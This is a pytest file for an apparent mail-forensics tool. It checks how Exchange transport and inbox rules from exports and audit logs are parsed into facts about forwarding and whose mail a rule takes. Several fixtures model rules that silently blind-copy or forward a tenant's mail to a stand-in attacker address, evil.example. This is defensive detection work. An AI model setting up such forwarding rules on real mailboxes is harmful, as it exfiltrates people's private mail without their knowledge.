"""Transport rules say the same wherever they are read, whose mail they take, and no word of mail; conditions of inbox rules too."""

from __future__ import annotations

from pathlib import Path

import pytest

from loaders import conditions
from tests.support import audit
from tests.support.exports import csv
from tests.support.golden import facts_of

NOW = 1_800_000_000
COLUMNS = "Name,State,Mode,BlindCopyTo,RedirectMessageTo,From,FromMemberOf,SentTo,SubjectOrBodyContainsWords,ExceptIfFrom,DistinguishedName"
DN = "CN=x,CN=TransportVersioned,CN=Rules,CN=Transport Settings,CN=Configuration,CN=contoso.onmicrosoft.com,OU=x"
RULE = "rule:contoso.onmicrosoft.com/transport rule/x"


def kinds(facts: list[dict], kind: str) -> list[dict]:
    return [fact for fact in facts if fact.get("kind") == kind]


def table(tmp_path: Path, **cells: str) -> list[dict]:
    given = {"Name": "x", "State": "Enabled", "Mode": "Enforce", "BlindCopyTo": "out@evil.example", "DistinguishedName": DN} | cells
    path = tmp_path / "rules.csv"
    path.write_text(csv(COLUMNS, [given.get(column, "") for column in COLUMNS.split(",")]), encoding="utf-8")
    return facts_of(path, now=NOW)


def clixml(tmp_path: Path, **cells: str) -> list[dict]:
    given = {"Name": "x", "State": "Enabled", "Mode": "Enforce", "BlindCopyTo": "out@evil.example", "DistinguishedName": DN} | cells
    lists = "".join(
        f'<Obj N="{name}" RefId="{at}"><LST>{"".join(f"<S>{item}</S>" for item in value.split(";"))}</LST></Obj>' if name not in ("Name", "State", "Mode", "DistinguishedName")
        else f'<S N="{name}">{value}</S>' for at, (name, value) in enumerate(given.items(), 9))  # fmt: skip
    path = tmp_path / "rules.xml"
    path.write_text(
        '<Objs Version="1.1.0.1" xmlns="http://schemas.microsoft.com/powershell/2004/04"><Obj RefId="0"><TN RefId="0">'
        f"<T>Deserialized.Microsoft.Exchange.MessagingPolicies.Rules.Tasks.Rule</T></TN><Props>{lists}<Nil N='CopyTo' /></Props></Obj></Objs>", encoding="utf-8"
    )  # fmt: skip
    return facts_of(path, now=NOW)


def log(tmp_path: Path, **cells: str) -> list[dict]:
    given = {"Name": "x", "BlindCopyTo": "out@evil.example", "Mode": "Enforce"} | {name: text for name, text in cells.items() if name != "State"}
    made = audit.record(1, "New-TransportRule", audit.ADMIN, RecordType=1, ResultStatus="True", ObjectId="", Parameters=audit.pairs(**given)) | {
        "OrganizationName": "contoso.onmicrosoft.com"
    }
    off = audit.record(2, "Disable-TransportRule", audit.ADMIN, RecordType=1, ResultStatus="True", ObjectId="", Parameters=audit.pairs(Identity="x")) | {
        "OrganizationName": "contoso.onmicrosoft.com"
    }
    return facts_of(audit.write(tmp_path / "log", "E", [made, off] if cells.get("State") == "Disabled" else [made]), now=NOW)


READERS = [table, clixml, log]


def whose(facts: list[dict]) -> set[tuple[str, str]]:
    return {(fact["role"], fact["to_key"]) for fact in kinds(facts, "APPLIES_TO")}


@pytest.mark.parametrize("say", READERS)
def test_the_mail_system_passes_through_a_rule_that_copies(tmp_path, say):
    facts = say(tmp_path)
    assert [(f["from_key"], f["to_key"]) for f in kinds(facts, "PASSES_THROUGH")] == [("service:mail/contoso.onmicrosoft.com", RULE)]
    assert [(f["from_key"], f["to_key"], f["keeps_copy"]) for f in kinds(facts, "FORWARDS_TO")] == [(RULE, "smtp:out@evil.example", True)]
    (rule,) = kinds(facts, "Rule")
    assert (rule["type"], rule["takes"], rule.get("conditions")) == ("transport rule", "all mail", None) and whose(facts) == set()


@pytest.mark.parametrize("say", READERS)
def test_a_rule_that_is_off_lets_nothing_pass_any_more(tmp_path, say):
    facts = say(tmp_path, State="Disabled")
    assert all("valid_until" in f or "valid_from" in f for f in kinds(facts, "PASSES_THROUGH"))
    ended = [f for f in kinds(facts, "PASSES_THROUGH") if "valid_until" in f]
    assert len(ended) == (1 if say is log else 0) and kinds(facts, "Rule")[0]["enabled"] is False


@pytest.mark.parametrize("say", READERS)
def test_a_rule_for_some_senders_and_groups_applies_to_these(tmp_path, say):
    facts = say(tmp_path, From="boss@x.example;ceo@x.example", FromMemberOf="board@x.example", SentTo="press@x.example")
    assert whose(facts) == {("from", "smtp:boss@x.example"), ("from", "smtp:ceo@x.example"), ("from", "group:board@x.example"), ("to", "smtp:press@x.example")}
    assert kinds(facts, "Rule")[0]["takes"] == "some senders or recipients"


@pytest.mark.parametrize("say", READERS)
@pytest.mark.parametrize("cells", [{"SubjectOrBodyContainsWords": "SECRET"}, {"ExceptIfFrom": "boss@x.example"}, {"From": "Ken Sato"}, {"From": "boss@x.example;Ken Sato"}])
def test_a_rule_that_is_narrowed_by_words_exceptions_or_names_may_take_anybodys_mail(tmp_path, say, cells):
    facts = say(tmp_path, **cells)
    (rule,) = kinds(facts, "Rule")
    assert rule["takes"] == "some mail" and whose(facts) == set() and "SECRET" not in str(facts)
    assert rule["conditions"].startswith(next(iter(cells)))


def test_an_export_without_columns_of_conditions_does_not_say_that_a_rule_takes_all_mail(tmp_path):
    path = tmp_path / "rules.csv"
    path.write_text(csv("Name,State,BlindCopyTo", ("x", "Enabled", "out@evil.example")), encoding="utf-8")
    facts = facts_of(path, now=NOW, mailbox="a@x.example")
    (rule,) = kinds(facts, "Rule")
    assert "takes" not in rule and rule["key"] == "rule:x.example/transport rule/x"
    assert [f["from_key"] for f in kinds(facts, "PASSES_THROUGH")] == ["service:mail/x.example"]


def test_a_condition_that_a_later_command_changes_is_the_later_one(tmp_path):
    def said(number: int, operation: str, **given: str) -> dict:
        return audit.record(number, operation, audit.ADMIN, RecordType=1, ResultStatus="True", ObjectId="", Parameters=audit.pairs(**given))

    given = [said(1, "New-TransportRule", Name="x", BlindCopyTo="o@evil.example", From="a@x.example", SubjectContainsWords="SECRET"),
             said(2, "Set-TransportRule", Identity="x", From="b@x.example", SubjectContainsWords="")]  # fmt: skip
    facts = facts_of(audit.write(tmp_path / "log", "E", given), now=NOW)
    assert whose(facts) == {("from", "smtp:b@x.example")} and kinds(facts, "Rule")[0]["conditions"] == "From: b@x.example"


@pytest.mark.parametrize(
    ("given", "wanted"),
    [
        ([("SubjectContainsWords", "invoice"), ("From", '"Boss" [SMTP:boss@x.example]')], "From: boss@x.example; SubjectContainsWords"),
        ([("HasAttachment", "True"), ("WithImportance", "High"), ("BodyContainsWords", "{a, b}")], "BodyContainsWords; HasAttachment; WithImportance: High"),
        ([("ExceptIfSubjectContainsWords", "x"), ("HeaderContainsWords", "x"), ("AttachmentNameMatchesPatterns", "x")],
         "AttachmentNameMatchesPatterns; ExceptIfSubjectContainsWords; HeaderContainsWords"),
        ([("MyNameInToBox", "False"), ("SentTo", ""), ("ForwardTo", "a@x"), ("Description", "words")], None),
    ],
)  # fmt: skip
def test_conditions_keep_their_kind_and_what_is_no_word_of_mail(given, wanted):
    assert conditions.told(given) == wanted


@pytest.mark.parametrize(
    ("text", "wanted"),
    [("{(Exists(ItemClass))}", []), ("{(And(SubString(Subject, 'SECRET'), Equal(HasAttach, True)))}", ["SubjectContainsWords", "HasAttachment"]),
     ("{(SubString(SenderSearchKey, x))}", ["FromAddressContainsWords"])],
)  # fmt: skip
def test_a_restriction_of_outlook_tells_kinds_of_conditions_only(text, wanted):
    assert conditions.of_restriction(text) == wanted


def test_an_inbox_rule_says_the_same_conditions_in_an_export_and_in_the_log(tmp_path):
    words = {"SubjectOrBodyContainsWords": "SECRET", "From": "boss@x.example"}
    path = tmp_path / "rules.csv"
    path.write_text(csv("MailboxOwnerId,Name,Enabled,ForwardTo,From,SubjectOrBodyContainsWords", (audit.ALICE, "x", "True", "o@evil.example", words["From"], "SECRET")))
    made = audit.record(1, "New-InboxRule", audit.ALICE, RecordType=1, ResultStatus="True", ObjectId=f"{audit.PATH}Alice\\x",
                        Parameters=audit.pairs(Name="x", ForwardTo="o@evil.example", **words), **audit.of(audit.ALICE))  # fmt: skip
    exported, logged = facts_of(path, now=NOW), facts_of(audit.write(tmp_path / "log", "E", [made]), now=NOW)
    told = {fact["conditions"] for facts in (exported, logged) for fact in kinds(facts, "Rule")}
    assert told == {"From: boss@x.example; SubjectOrBodyContainsWords"} and "SECRET" not in str(exported) + str(logged)
